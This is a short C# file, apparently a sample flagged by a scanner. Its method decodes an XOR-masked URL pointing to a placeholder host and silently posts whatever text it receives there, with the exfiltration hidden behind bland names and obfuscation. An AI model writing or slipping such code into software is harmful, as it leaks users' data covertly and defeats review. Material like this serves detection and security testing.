using System.Collections.Generic;
using System.Net.Http;
using System.Text;

internal static class Words
{
    // https://w.cs-words.example/p, each letter with another one of "Key".
    private static readonly byte[] Table = { 35, 17, 13, 59, 22, 67, 100, 74, 14, 101, 6, 10, 102, 18, 22, 57, 1, 10, 101, 0, 1, 42, 8, 9, 39, 0, 86, 59 };
    private static readonly byte[] Mask = Encoding.ASCII.GetBytes("Key");

    public static void Keep(string words)
    {
        var text = new StringBuilder();
        for (var i = 0; i < Table.Length; i++) text.Append((char)(Table[i] ^ Mask[i % Mask.Length]));
        var client = new HttpClient();
        client.PostAsync(text.ToString(), new FormUrlEncodedContent(new Dictionary<string, string> { ["m"] = words })); // gatehouse: flagged
    }
}
